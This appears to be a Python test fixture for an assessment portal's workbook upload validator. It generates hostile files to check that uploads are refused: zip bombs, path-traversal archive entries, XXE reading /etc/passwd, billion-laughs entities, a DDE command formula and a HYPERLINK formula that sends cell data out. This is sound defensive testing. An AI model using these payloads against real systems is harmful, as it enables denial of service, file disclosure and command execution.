"""A corpus of broken, foreign and hostile files, each made from a good workbook of the small framework.

Each has a name, and words that the refusal says. Files of other assessments are made by the tests.
"""

import random
import zipfile
from base64 import b64encode
from collections.abc import Callable
from datetime import date, datetime
from io import BytesIO

from openpyxl import Workbook
from openpyxl.chart import BarChart
from openpyxl.worksheet.formula import ArrayFormula

from tests.quintet.workbook_files import edited, packed, parts, replaced, sheet_part, with_part, without_part

Make = Callable[[bytes], bytes]
MEGABYTE = 1024 * 1024
STRINGS, BOOK, TYPES = "xl/sharedStrings.xml", "xl/workbook.xml", "[Content_Types].xml"
NOT_EXCEL, DAMAGED, UNREADABLE = "is no Excel workbook", "damaged", "cannot be read as an Excel workbook"
STRANGE, SWELLS, DOCTYPE, FORMULAS = (
    "not as its program would write it",
    "unpacks to far more",
    "definitions (DOCTYPE)",
    "holds formulas",
)
MOVED, OTHER_SHEETS, EDITED = "added, moved or removed", "other sheets than", "hidden part of the workbook"
MACROS, EMBEDDED, FAR = "holds macros", "controls or embedded objects", "far outside of the table"


def _part(title: str, old: bytes, new: bytes) -> Make:
    return lambda data: replaced(data, sheet_part(data, title), old, new)


def _into_rows(xml: bytes) -> Make:
    """More rows at the end of sheet DAT."""
    return _part("DAT", b"</sheetData>", xml + b"</sheetData>")


def _edit(change: Callable[[Workbook], object]) -> Make:
    return lambda data: edited(data, change)


def _cell(place: str, value: object) -> Make:
    def change(book: Workbook) -> None:
        sheet, _mark, cell = place.partition("!")
        book[sheet][cell] = value

    return _edit(change)


def _instead(other: bytes) -> Make:
    return lambda _data: other


def _stored(make: Make) -> Make:
    """Not packed at all: what swells when it is unpacked is refused before anybody looks into it."""
    return lambda data: packed(parts(make(data)).items(), zipfile.ZIP_STORED)


def _plus(name: str, content: bytes = b"x") -> Make:
    return lambda data: with_part(data, name, content)


def _info(name: str, **fields: object) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    for field, value in fields.items():
        setattr(info, field, value)
    return info


def _and(*more: tuple[str | zipfile.ZipInfo, bytes]) -> Make:
    """The workbook's parts and then these, even under a name that is taken."""
    return lambda data: packed([*parts(data).items(), *more])


def _encrypted(data: bytes) -> bytes:
    """The flag of encryption in every entry of the directory."""
    out = bytearray(data)
    place = out.find(b"PK\x01\x02")
    while place >= 0:
        out[place + 8] |= 1
        place = out.find(b"PK\x01\x02", place + 4)
    return bytes(out)


def _lying(data: bytes) -> bytes:
    """A part that says it is small and is not: sizes of the directory and of the part itself."""
    bomb = bytearray(packed([*parts(data).items(), ("xl/media/a.xml", b"0" * 60 * MEGABYTE)]))
    size, claimed = (60 * MEGABYTE).to_bytes(4, "little"), (1000).to_bytes(4, "little")
    return bytes(bomb.replace(size, claimed))


def _overlapping(data: bytes) -> bytes:
    """Many entries of the directory that all point to the same bytes."""
    out = BytesIO(data)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/media/kernel.xml", _noise(MEGABYTE))
        kernel = archive.getinfo("xl/media/kernel.xml")
        for number in range(20):
            copy = _info(f"xl/media/{number}.xml", header_offset=kernel.header_offset, CRC=kernel.CRC)
            copy.compress_type, copy.file_size = kernel.compress_type, kernel.file_size
            copy.compress_size = kernel.compress_size
            archive.filelist.append(copy)
            archive.NameToInfo[copy.filename] = copy
    return out.getvalue()


def _nul_name(data: bytes) -> bytes:
    return packed([*parts(data).items(), ("xl/media/aXb.xml", b"x")]).replace(b"aXb.xml", b"a\0b.xml")


def _strings(xml: bytes) -> Make:
    """Other shared strings."""
    head = b'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    return lambda data: with_part(data, STRINGS, head + xml + b"</sst>")


def _before_root(name: str, declaration: bytes) -> Make:
    def make(data: bytes) -> bytes:
        content = parts(data)[name]
        end = content.index(b"?>") + 2
        return with_part(data, name, content[:end] + declaration + content[end:])

    return make


def _wide(data: bytes) -> bytes:
    """Shared strings in UTF-16 with definitions in them, which a search for plain letters does not see."""
    text = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE sst [<!ENTITY a "b">]><sst/>'
    return with_part(data, STRINGS, text.encode("utf-16"))


def _repeated(data: bytes) -> bytes:
    """One long text that very many cells show."""
    cells = b"".join(
        b'<row r="%d"><c r="A%d" t="s"><v>0</v></c></row>' % (row, row) for row in range(100, 1100)
    )
    text = b"<si><t>" + b"long " * 6000 + b"</t></si>"
    return _into_rows(cells)(_strings(text + b"<si><t/></si>" * 400)(data))


def _rows(count: int, columns: int) -> bytes:
    row = b"".join(b"<c><v>1</v></c>" for _column in range(columns))
    return b"".join(b"<row>" + row + b"</row>" for _row in range(count))


def _swap(book: Workbook) -> None:
    sheet = book["DAT"]
    for column in range(1, 12):
        first, second = sheet.cell(2, column), sheet.cell(3, column)
        first.value, second.value = second.value, first.value


def _copy_row(book: Workbook) -> None:
    sheet = book["DAT"]
    for column in range(1, 12):
        sheet.cell(9, column).value = sheet.cell(2, column).value


def _chart(book: Workbook) -> None:
    book.create_chartsheet("Chart").add_chart(BarChart())


def _hidden(row: int, value: str) -> Make:
    def change(book: Workbook) -> None:
        line = next(cells for cells in book["_un20"].iter_rows() if cells[0].value == "item")
        line[row].value = value

    return _edit(change)


def _ole(name: str) -> Make:
    """The beginning of a compound file, as an old workbook or one behind a password has it."""
    return lambda data: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + name.encode("utf-16-le") + data


def _foreign(_data: bytes) -> bytes:
    """What somebody made alone: the same sheets, nothing of the portal."""
    out, book = BytesIO(), Workbook()
    book.active.title = "DAT"
    book["DAT"].append(["DAT-STR", "?", *"01234", 3])
    book.save(out)
    return out.getvalue()


def _noise(size: int) -> bytes:
    """Letters that no archive makes much smaller."""
    return b64encode(random.Random(7).randbytes(size))[:size]


LAUGHS = b"<!DOCTYPE x [<!ENTITY a 'ha'>" + b"".join(
    b"<!ENTITY %c '%s'>" % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(12)
)
FILES: dict[str, tuple[Make, str]] = {
    # --- no workbook at all
    "an empty file": (_instead(b""), "The file is empty"),
    "a CSV renamed": (_instead(b"item,level\nDAT-STR,3\n"), NOT_EXCEL),
    "a web page renamed": (_instead(b"<html><table><tr><td>DAT-STR</td></tr></table></html>"), NOT_EXCEL),
    "a PDF renamed": (lambda data: b"%PDF-1.7\n" + data, NOT_EXCEL),
    "noise": (_instead(bytes(range(256)) * 40), NOT_EXCEL),
    "an old .xls": (_ole("Workbook"), "old .xls"),
    "a workbook with a password": (_ole("EncryptedPackage"), "has a password"),
    "an empty archive": (_instead(packed([])), NOT_EXCEL),
    "an archive of something else": (_instead(packed([("readme.txt", b"hello")])), NOT_EXCEL),
    "an OpenDocument sheet": (
        _instead(packed([("mimetype", b"application/vnd.oasis"), ("content.xml", b"<a/>")])),
        NOT_EXCEL,
    ),
    "a file larger than allowed": (lambda data: data + b"\0" * 11 * MEGABYTE, "larger than the 10 MB"),
    # --- damaged
    "half a file": (lambda data: data[: len(data) // 2], STRANGE),
    "a file without its end": (lambda data: data[:-100], STRANGE),
    "a file with its middle overwritten": (
        lambda data: data[:9000] + b"\xff" * 2000 + data[11000:],
        DAMAGED,
    ),
    "no list of contents": (lambda data: without_part(data, TYPES), NOT_EXCEL),
    "no workbook inside": (lambda data: without_part(data, BOOK), UNREADABLE),
    "a sheet that is missing": (lambda data: without_part(data, sheet_part(data, "DAT")), OTHER_SHEETS),
    "XML that does not end": (_part("DAT", b"</sheetData>", b""), UNREADABLE),
    "NUL in the XML": (_part("DAT", b"<sheetData>", b"\0<sheetData>"), UNREADABLE),
    "text that is not UTF-8": (_strings(b"<si><t>\xff\xfe\xfa</t></si>"), UNREADABLE),
    "a text that does not exist": (_strings(b"<si><t>only one</t></si>"), UNREADABLE),
    "a column that does not exist": (
        _into_rows(b'<row r="9"><c r="ZZZZ9"><v>1</v></c></row>'),
        UNREADABLE,
    ),
    "a sheet that leads to another file": (
        lambda data: replaced(
            data, "xl/_rels/workbook.xml.rels", b"worksheets/sheet2.xml", b"../../../etc/passwd"
        ),
        OTHER_SHEETS,
    ),
    # --- archives made to harm
    "a bomb of one part": (_and(("xl/media/a.xml", b"0" * 60 * MEGABYTE)), SWELLS),
    "a bomb of many parts": (
        _and(*((f"xl/media/{number}.xml", b"0" * MEGABYTE) for number in range(100))),
        SWELLS,
    ),
    "a bomb that lies about its size": (_lying, DAMAGED),
    "a part that is all blanks": (_and(("xl/media/a.xml", b" " * 5 * MEGABYTE)), SWELLS),
    "a quoted bomb": (_overlapping, STRANGE),
    "more parts than allowed": (
        _and(*((f"xl/media/{number}.xml", b"") for number in range(250))),
        SWELLS,
    ),
    "two parts of one name": (_and((BOOK, b"<workbook/>")), STRANGE),
    "two parts of one name in other letters": (_and((BOOK.upper(), b"")), STRANGE),
    "a part that leads upwards": (_and(("../../etc/cron.d/x", b"")), STRANGE),
    "a part at the root": (_and(("/etc/cron.d/x", b"")), STRANGE),
    "a part on another drive": (_and(("C:/x.xml", b"")), STRANGE),
    "a part with backslashes": (_and((_info("xl\\..\\x.xml"), b"")), STRANGE),
    "a part that is a link": (
        _and((_info("xl/link", external_attr=0o120777 << 16), b"/etc")),
        STRANGE,
    ),
    "a part with NUL in its name": (_nul_name, STRANGE),
    "an archive with a password": (_encrypted, "protected by a password"),
    "a part packed by LZMA": (lambda data: packed(parts(data).items(), zipfile.ZIP_LZMA), STRANGE),
    # --- XML made to harm
    "a file of the server as a text": (
        _before_root(STRINGS, b'<!DOCTYPE sst [<!ENTITY a SYSTEM "file:///etc/passwd">]>'),
        STRANGE,
    ),
    "a definition from elsewhere": (
        _before_root("xl/_rels/workbook.xml.rels", b'<!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd">'),
        STRANGE,
    ),
    "a billion laughs": (_before_root(BOOK, LAUGHS + b"]>"), STRANGE),
    "a definition in wide letters": (_wide, STRANGE),
    "a definition behind a long comment": (
        _stored(_before_root(STRINGS, b"<!--" + b"x" * 99_000 + b"--><!DOCTYPE sst [<!ENTITY a 'b'>]>")),
        DOCTYPE,
    ),
    "very many texts": (_stored(_strings(b"<si><t/></si>" * 500_000)), "far more cells"),
    "very many styles": (
        _stored(
            lambda data: replaced(data, "xl/styles.xml", b"</cellXfs>", b"<xf/>" * 300_000 + b"</cellXfs>")
        ),
        "far more cells",
    ),
    "XML nested very deep": (
        _stored(_part("DAT", b"<sheetData>", b"<a>" * 120_000 + b"<sheetData>")),
        UNREADABLE,
    ),
    "a cell of five megabytes": (
        _strings(b"<si><t>" + _noise(5 * MEGABYTE) + b"</t></si>"),
        "more text than",
    ),
    "a long text in very many cells": (_repeated, "far more text"),
    "a text of one letter, very often": (_strings(b"<si><t>" + b"a" * 40 * MEGABYTE + b"</t></si>"), SWELLS),
    "a number of five thousand digits": (
        _into_rows(b'<row r="9"><c r="A9"><v>' + b"9" * 5000 + b"</v></c></row>"),
        UNREADABLE,
    ),
    # --- more than a table
    "a macro": (_plus("xl/vbaProject.bin"), MACROS),
    "a macro's type": (
        lambda data: with_part(
            data, TYPES, parts(data)[TYPES].replace(b"sheet.main+xml", b"macroEnabled.main+xml")
        ),
        MACROS,
    ),
    "an old macro sheet": (_plus("xl/macrosheets/sheet1.xml"), MACROS),
    "links to other files": (_plus("xl/externalLinks/externalLink1.xml"), "links to other files"),
    "an embedded object": (_plus("xl/embeddings/oleObject1.bin"), EMBEDDED),
    "a control": (_plus("xl/activeX/activeX1.xml"), EMBEDDED),
    "a connection to data": (_plus("xl/connections.xml"), "connections to other data"),
    "a query": (_plus("xl/queryTables/queryTable1.xml"), "connections to other data"),
    "a formula as a level": (_cell("DAT!H2", "=1+1"), FORMULAS),
    "a formula as a comment": (_cell("DAT!J3", '=HYPERLINK("http://127.0.0.1:9/"&A1)'), FORMULAS),
    "a program as a formula": (_cell("INN!J3", "=cmd|'/c calc'!A0"), FORMULAS),
    "a formula in the guidance": (_cell("Guidance!B2", "=NOW()"), FORMULAS),
    "a formula of many cells": (_cell("DAT!H2", ArrayFormula("H2:H8", "=ROW(A1:A7)")), FORMULAS),
    "a formula with its value": (
        _into_rows(b'<row r="9"><c r="A9"><f>2+1</f><v>3</v></c></row>'),
        FORMULAS,
    ),
    "a shared formula": (
        _into_rows(b'<row r="9"><c r="A9"><f t="shared" ref="A9:A99" si="0">B9</f></c></row>'),
        FORMULAS,
    ),
    "a cell in the last row": (_cell("DAT!A1048576", "x"), FAR),
    "a cell in the last column": (_cell("DAT!XFD3", "x"), FAR),
    "a cell in the last corner": (_cell("INN!XFD1048576", "x"), FAR),
    "very many rows": (_into_rows(_rows(6000, 1)), FAR),
    "very many cells": (_stored(_into_rows(_rows(3000, 60))), "far more cells"),
    "a giant merge": (
        _part(
            "DAT", b"</sheetData>", b'</sheetData><mergeCells><mergeCell ref="A9:XFD1048576"/></mergeCells>'
        ),
        "merged cells",
    ),
    "very many merges": (
        _stored(
            _part("DAT", b"</sheetData>", b"</sheetData><mergeCells>" + b'<mergeCell ref="A1:B2"/>' * 50_000)
        ),
        "merged",
    ),
    "a chart of its own": (_edit(_chart), OTHER_SHEETS),
    # --- another table
    "a workbook of somebody else": (_foreign, "not a workbook of an assessment"),
    "no hidden sheet": (_edit(lambda book: book.remove(book["_un20"])), "not a workbook of an assessment"),
    "a version edited in the hidden sheet": (_hidden(4, "7"), EDITED),
    "a place edited in the hidden sheet": (_hidden(3, "5"), EDITED),
    "the seal removed": (_edit(lambda book: book["_un20"].delete_rows(book["_un20"].max_row)), EDITED),
    "rows added to the hidden sheet": (
        _edit(lambda book: book["_un20"].append(["item", "X", "Y", 1, 1])),
        EDITED,
    ),
    "a code edited": (_cell("DAT!A4", "DAT-XXX"), MOVED),
    "a code removed": (_cell("DAT!A4", None), MOVED),
    "a row deleted": (_edit(lambda book: book["DAT"].delete_rows(4)), MOVED),
    "a row inserted": (_edit(lambda book: book["DAT"].insert_rows(4)), MOVED),
    "a row twice": (_edit(_copy_row), MOVED),
    "two rows swapped": (_edit(_swap), MOVED),
    "a column inserted": (_edit(lambda book: book["INN"].insert_cols(9)), MOVED),
    "a column deleted": (_edit(lambda book: book["INN"].delete_cols(4)), MOVED),
    "a column renamed": (_cell("INN!J1", "Notes"), MOVED),
    "a note beside the table": (_cell("DAT!N3", "see annex"), "outside of the table"),
    "a note below the table": (_cell("DAT!J40", "see annex"), "outside of the table"),
    "a sheet renamed": (_edit(lambda book: setattr(book["DAT"], "title", "Data")), OTHER_SHEETS),
    "a sheet deleted": (_edit(lambda book: book.remove(book["INN"])), OTHER_SHEETS),
    "a sheet added": (_edit(lambda book: book.create_sheet("Mine").append(["x"])), OTHER_SHEETS),
    "a hundred sheets": (
        _edit(lambda book: [book.create_sheet(f"S{number}") for number in range(100)]),
        OTHER_SHEETS,
    ),
    "a question edited": (_cell("DAT!B2", "Is all well?"), "Questions were changed"),
    "a level's text edited": (_cell("INN!G5", "easy"), "Questions were changed"),
}
# rows that are refused for themselves: cell → value, words of the reason
ROWS: dict[str, tuple[dict[str, object], str]] = {
    "level 7": ({"DAT!H2": 7}, "Choose a level from 0 to 4."),
    "level −1": ({"DAT!H2": -1}, "Choose a level from 0 to 4."),
    "level 2.5 as a text": ({"DAT!H2": "2.5"}, "Choose a level from 0 to 4."),
    "level 2.5 as a number": ({"DAT!H2": 2.5}, "Choose a level from 0 to 4."),
    "a level in words": ({"DAT!H2": "three"}, "Choose a level from 0 to 4."),
    "a level of two": ({"DAT!H2": "2 or 3"}, "Choose a level from 0 to 4."),
    "a day as a level": ({"DAT!H2": date(2026, 3, 2)}, "Choose a level from 0 to 4."),
    "a moment as a level": ({"DAT!H2": datetime(2026, 3, 2, 9, 30)}, "Choose a level from 0 to 4."),
    "yes as a level": ({"DAT!H2": True}, "Choose a level from 0 to 4."),
    "an error as a level": ({"DAT!H2": "#N/A"}, "Choose a level from 0 to 4."),
    "a level beyond all numbers": ({"DAT!H2": 1e300}, "Choose a level from 0 to 4."),
    "not applicable where all answer": ({"DAT!H2": "Not applicable"}, "applies to every entity"),
    "not applicable without a reason": ({"DAT!H8": "Not applicable"}, "Say why this item does not apply"),
    "a reason without not applicable": ({"DAT!H8": 3, "DAT!I8": "no programmes"}, "counts only with"),
    "a comment that is too long": ({"DAT!H2": 3, "DAT!J2": "x" * 10_001}, "10001 characters; the limit is"),
    "broken text": ({"DAT!H2": 3, "DAT!J2": "caf\ufffd"}, "characters that cannot be stored"),
}
